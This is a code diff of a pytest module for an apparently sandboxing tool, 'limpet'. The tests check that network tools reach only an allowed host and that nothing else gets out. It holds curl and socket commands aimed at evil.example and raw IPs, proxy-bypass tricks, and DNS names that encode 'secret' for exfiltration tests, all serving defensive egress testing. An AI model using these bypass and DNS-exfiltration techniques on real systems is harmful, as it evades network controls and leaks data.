@@ -1,99 +1,237 @@
-"""Tools that models use work unchanged through a door, by its proxy and without: against a server of files, over TLS."""
+"""What models use reaches an allowed host unchanged, by its box's proxy and without, and nothing else does: real boxes of `limpet run`, and
+TLS servers, package indexes and a hostile name server in a network namespace of their own. What left is what arrived there."""
 
-import ssl
+import base64
+import gzip
+import hashlib
+import io
+import json
+import re
+import shutil
 import subprocess
-import threading
+import tarfile
 import zipfile
 from collections.abc import Iterator, Sequence
-from functools import partial
-from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from dataclasses import dataclass
+from importlib.metadata import PackageNotFoundError, distribution
 from pathlib import Path
 
 import pytest
-import trustme
 
-import limpet
-from tests.support.runtimes import opened
+from tests.support.homes import home_apart
+from tests.support.internet import Internet, internet
+from tests.support.internet_servers import HERE
+from tests.support.users import user_of_this_worker
 
-pytestmark = pytest.mark.anyio
-GOOD = "files.good.example"
-PROXIES = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; "
+FILES = "files.good.example"
+URL = f"https://{FILES}"
+SCRIPT = Path(__file__).with_name("tools_through_a_door.sh").read_text()
+TOOLS = (
+    "curl curl-plain wget git pip uv npm urllib requests httpx2 aiohttp node-fetch node-https java go openssl".split()
+)
+OF_A_USER = "curl git pip uv npm node-fetch openssl".split()  # as root all; what differs is how the door is opened
+KNOW_NO_PROXY = {"java", "openssl"}
+ALWAYS = {"curl", "git", "urllib"}  # which every machine that runs these tests has
+# What a name of the list leads to is no public address; the box is told so, or that it could not be reached.
+POISONED = "private metadata loopback mixed shared any host nothing".split()
+REBINDING = (
+    "rebinding.good.example"  # every other answer is a private address: a connection meets one, whole, or the other
+)
+OTHERS = [
+    "curl -sS http://evil.example/",
+    f"curl -sSL {URL}/redirect?http://evil.example/ --cacert ca",
+    f"curl -sSL {URL}/redirect?http://10.0.0.1/ --cacert ca",
+    f"curl -sS --noproxy '*' --connect-to {FILES}:443:93.184.216.34:443 {URL}/file --cacert ca",
+    "curl -sS --noproxy '*' http://93.184.216.34/file",
+    "curl -sS http://93.184.216.34/file",
+    f"curl -sS --noproxy '*' -H 'Host: evil.example' http://{FILES}/file",
+    f"curl -sS --dns-servers 93.184.216.34 --noproxy '*' {URL}/file --cacert ca; false",
+    "python3 -c 'import socket; socket.create_connection((\"93.184.216.34\", 443), 5)'",
+    "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes(20), (\"93.184.216.34\", 53))'",
+]
+# Data that would leave in names: as labels, in every record type, and as what a resolver would make of odd bytes.
+EXFILTRATING = [
+    *(f"{letter * length}.evil.example" for letter in "ax" for length in (1, 20, 63)),
+    *(f"{part}.x{number}.{FILES}" for number, part in enumerate(["c2VjcmV0", "736563726574", "ONSWG4TFOQ", "s-e-c-r-e-t"])),
+    *(f"secret.{number}.{zone}" for number in range(6) for zone in ("evil.example", "good.example.evil.example", "10.0.0.1.nip.example")),
+    *(f"{FILES}{ending}" for ending in (".evil.example", "x", ".com", "..", "%00.evil.example", "\\\\.evil.example")),
+    *("good.example evil localhost.evil.example 1.0.0.10.in-addr.arpa _ldap._tcp.evil.example xn--e1aybc.evil.example".split()),
+    *(".".join(["a" * 60] * 4), "A.EVIL.EXAMPLE", "a" * 64 + ".evil.example", "-.evil.example", "*.evil.example"),
+]  # fmt: skip
+LOOKED_UP = """import socket, sys
+for name in sys.argv[1:]:
+    try: print("FOUND", name, socket.getaddrinfo(name, 443))
+    except (OSError, UnicodeError): pass"""
 
 
-class Quiet(SimpleHTTPRequestHandler):
-    def log_message(self, format: str, *args: object) -> None:
-        """The test reads what the tools say."""
+@dataclass(frozen=True)
+class Outcome:
+    """How a tool ended by the proxy, and without."""
+
+    codes: dict[str, str]
+    outputs: dict[str, str]
 
 
-@pytest.fixture
-def server(tmp_path: Path) -> Iterator[tuple[int, str]]:
-    """A git repository and an index of Python packages, over TLS; its port, and its authority."""
-    root = tmp_path / "root"
-    _git(root / "work", "init", "-q", "-b", "main")
-    (root / "work/file").write_text("cloned")
-    _git(root / "work", "add", "file")
-    _git(root / "work", "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-qm", "first")
-    _git(root, "clone", "-q", "--bare", "work", "repo.git")
-    _git(root / "repo.git", "update-server-info")
-    (root / "simple/tiny").mkdir(parents=True)
-    with zipfile.ZipFile(root / "simple/tiny/tiny-1.0-py3-none-any.whl", "w") as wheel:
-        wheel.writestr("tiny.py", "print('installed')\n")
+@pytest.fixture(scope="module")
+def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
+    with internet(tmp_path_factory.mktemp("internet") / "net", FILES, "*.good.example", "evil.example") as net:
+        (net.root / "file").write_text("content\n")
+        _repository(net.root)
+        _python_index(net.root / "simple/tiny")
+        _npm_index(net.root / "npm")
+        yield net
+
+
+@pytest.fixture(scope="module")
+def of_root(net: Internet) -> dict[str, Outcome]:
+    return _outcomes(net, TOOLS, None)
+
+
+@pytest.fixture(scope="module")
+def of_user(net: Internet) -> dict[str, Outcome]:
+    return _outcomes(net, OF_A_USER, user_of_this_worker())
+
+
+def _outcomes(net: Internet, tools: Sequence[str], user: int | None) -> dict[str, Outcome]:
+    """What each tool did in one box."""
+    with home_apart() as home:
+        script = f"URL={URL}; TOOLS='{' '.join(tools)}'; printf %s '{net.trust}' > ca\n{SCRIPT}"
+        done = net.limpet("run", "--allow", FILES, "--", script, home=home, user=user, stdin=_brought())
+    found: dict[str, Outcome] = {}
+    for line in done.stdout.splitlines():
+        if line.startswith("@@ "):
+            _, tool, mode, code, *output = line.split(" ")
+            outcome = found.setdefault(tool, Outcome({}, {}))
+            outcome.codes[mode] = code
+            outcome.outputs[mode] = base64.b64decode("".join(output)).decode().strip()
+    assert found, done.stderr
+    return found
+
+
+@pytest.mark.parametrize("tool", TOOLS)
+def test_a_tool_reaches_an_allowed_host_by_proxy_and_without(of_root: dict[str, Outcome], tool: str) -> None:
+    _check(of_root, tool)
+
+
+@pytest.mark.parametrize("tool", OF_A_USER)
+def test_a_tool_reaches_it_from_an_ordinary_users_box_too(of_user: dict[str, Outcome], tool: str) -> None:
+    _check(of_user, tool)
+
+
+def _check(outcomes: dict[str, Outcome], tool: str) -> None:
+    outcome = outcomes[tool]
+    if tool not in ALWAYS and ("missing" in outcome.codes.values() or "missing" in outcome.outputs.values()):
+        pytest.skip(
+            f"{tool} is not below /usr of this machine nor among the packages of its tests, so boxes do not have it"
+        )
+    modes = ["direct"] if tool in KNOW_NO_PROXY else ["proxy", "direct"]
+    assert (outcome.codes, outcome.outputs) == (dict.fromkeys(modes, "0"), dict.fromkeys(modes, "content"))
+
+
+@pytest.mark.parametrize("kind", ["root", "user"])
+def test_nothing_else_leaves_a_box_whatever_names_lead_to(net: Internet, kind: str) -> None:
+    before = {what: len(net.arrived(what)) for what in ("name", "connection", "request")}
+    poisoned = [f"curl -sS http://{name}.good.example/file" for name in POISONED]
+    script = f"printf %s '{net.trust}' > ca\n" + "\n".join(
+        f'echo "@@ $({each} --max-time 20 --fail 2>&1 | tail -c 300) $?"' for each in poisoned
+    )
+    script += "\n" + "\n".join(f'{{ {each}; }} > out 2>&1; echo "@@ $? $(cat out)"' for each in OTHERS)
+    script += f"\npython3 -c '{LOOKED_UP}' {' '.join(repr(name) for name in EXFILTRATING)}"
+    script += f"\nfor i in 1 2 3 4; do curl -sS http://{REBINDING}/rebound; done > /dev/null"
+    assert len(EXFILTRATING) >= 40
+    reachable = {FILES, REBINDING, *(f"{each}.good.example" for each in POISONED)}
+    with home_apart() as home:
+        allowed = [
+            word for name in (FILES, *(f"{each}.good.example" for each in POISONED)) for word in ("--allow", name)
+        ]
+        done = net.limpet(
+            "run", *allowed, "--", script, home=home, user=user_of_this_worker() if kind == "user" else None
+        )
+    assert done.returncode == 0, done.stderr
+    assert "FOUND" not in done.stdout
+    assert done.stdout.count("@@ ") == len(poisoned) + len(OTHERS), done.stdout
+    assert "content" not in done.stdout
+    arrived = {what: net.arrived(what)[count:] for what, count in before.items()}
+    assert {name["name"] for name in arrived["name"]} <= reachable
+    assert {(each["to"], each["port"]) for each in arrived["connection"]} <= {(HERE, 443), (HERE, 80)}
+    assert {each["path"].partition("?")[0] for each in arrived["request"]} <= {"/redirect", "/rebound"}
+
+
+def _repository(root: Path) -> None:
+    (root / "work").mkdir()
+    (root / "work/file").write_text("content\n")
+    author = ("-c", "user.name=a", "-c", "user.email=a@example.com")
+    for words in (
+        ("-C", str(root / "work"), "init", "-q", "-b", "main"),
+        ("-C", str(root / "work"), "add", "file"),
+        ("-C", str(root / "work"), *author, "commit", "-qm", "first"),
+        ("clone", "-q", "--bare", str(root / "work"), str(root / "repo.git")),
+        ("-C", str(root / "repo.git"), "update-server-info"),
+    ):
+        subprocess.run(["git", *words], check=True, capture_output=True)
+
+
+def _python_index(root: Path) -> None:
+    root.mkdir(parents=True)
+    name = "tiny-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(root / name, "w") as wheel:
+        wheel.writestr("tiny.py", "print('content')\n")
         wheel.writestr("tiny-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n")
         wheel.writestr(
             "tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
         )
         wheel.writestr("tiny-1.0.dist-info/RECORD", "")
-    (root / "simple/tiny/index.html").write_text('<a href="tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>')
-    authority = trustme.CA()
-    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-    authority.issue_cert(GOOD).configure_cert(context)
-    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(root))) as listener:
-        listener.socket = context.wrap_socket(listener.socket, server_side=True)
-        thread = threading.Thread(target=listener.serve_forever, kwargs={"poll_interval": 0.05})
-        thread.start()
-        yield listener.server_address[1], authority.cert_pem.bytes().decode()
-        listener.shutdown()
-        thread.join()
+    (root / "index.html").write_text(f'<a href="{name}">{name}</a>')
 
 
-def _git(directory: Path, *words: str) -> None:
-    directory.mkdir(parents=True, exist_ok=True)
-    subprocess.run(["git", *words], cwd=directory, check=True, capture_output=True)
+def _npm_index(root: Path) -> None:
+    """A registry with one package, as npm asks for it: its document, and the archive that this names."""
+    root.mkdir()
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w") as archive:
+        for path, text in (
+            ("package.json", '{"name": "tiny", "version": "1.0.0"}'),
+            ("index.js", "console.log('content')"),
+        ):
+            entry = tarfile.TarInfo(f"package/{path}")
+            entry.size = len(text)
+            archive.addfile(entry, io.BytesIO(text.encode()))
+    data = gzip.compress(packed.getvalue())
+    (root / "tiny-1.0.0.tgz").write_bytes(data)
+    integrity = f"sha512-{base64.b64encode(hashlib.sha512(data).digest()).decode()}"
+    version = {
+        "name": "tiny",
+        "version": "1.0.0",
+        "dist": {"tarball": f"{URL}/npm/tiny-1.0.0.tgz", "integrity": integrity},
+    }
+    document = {"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
+    (root / "tiny").write_text(json.dumps(document))
 
 
-@pytest.mark.parametrize("unset", ["", PROXIES], ids=["by proxy", "transparently"])
-async def test_git_pip_curl_python_and_node_reach_an_allowed_host(
-    home: Path, server: tuple[int, str], unset: str
-) -> None:
-    port, authority = server
+def _brought() -> bytes:
+    """An archive of programs and packages that boxes do not have by themselves, as far as this machine has them."""
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w") as archive:
+        if (uv := shutil.which("uv", path="/opt/uv/bin:/usr/local/bin:/usr/bin")) is not None:
+            archive.add(Path(uv).resolve(), "uv")
+        for name in _with_requirements("requests", "httpx2", "aiohttp"):
+            for file in distribution(name).files or ():
+                if not str(file).startswith("..") and "__pycache__" not in str(file):
+                    archive.add(str(file.locate()), str(file))
+    return packed.getvalue()
 
-    async def resolve(host: str, port: int) -> Sequence[str]:
-        return ["127.0.0.1"]
 
-    url = f"https://{GOOD}:{port}"
-    network = limpet.Network(hosts=[GOOD], ports=[port], networks=["127.0.0.0/8"], resolve=resolve)
-    variables = "SSL_CERT_FILE GIT_SSL_CAINFO CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS REQUESTS_CA_BUNDLE PIP_CERT".split()
-    trusted = dict.fromkeys(variables, "/mnt/data/ca")
-    tools = {
-        "curl": f"curl -sS {url}/work/file",
-        "git": f"git clone -q {url}/repo.git cloned && cat cloned/file",
-        "pip": f"python3 -m pip install -q --no-cache-dir --target . -i {url}/simple tiny && python3 -c 'import tiny'",
-        "python": f"python3 -c 'import urllib.request as u; print(u.urlopen(\"{url}/work/file\").read().decode())'",
-        "node": f"node -e 'fetch(\"{url}/work/file\").then(r => r.text()).then(console.log)'",
-    }  # fmt: skip
-    async with (
-        opened("bubblewrap", home) as runtime,
-        limpet.open_workspace(runtime=runtime, network=network, env=trusted) as box,
-    ):
-        await box.files.write("/mnt/data/ca", authority.encode())
-        there = {
-            name: command
-            for name, command in tools.items()
-            if (await box.run(f"command -v {command.split()[0]}")).exit_code == 0
-        }
-        results = {name: await box.run(f"{unset}{command}", timeout=60) for name, command in there.items()}
-    assert {"curl", "git", "python"} <= set(results)
-    words = {"pip": b"installed"}
-    assert {name: (result.stdout.strip(), result.exit_code) for name, result in results.items()} == {
-        name: (words.get(name, b"cloned"), 0) for name in results
-    }, {name: result.stderr[-500:] for name, result in results.items()}
+def _with_requirements(*names: str) -> list[str]:
+    found: dict[str, None] = {}
+    left = list(names)
+    while left:
+        name = left.pop()
+        if name in found:
+            continue
+        try:
+            needed = distribution(name).requires or []
+        except PackageNotFoundError:
+            continue
+        found[name] = None
+        left += [match[0] for each in needed if "extra" not in each and (match := re.match(r"[\w.-]+", each))]
+    return list(found)
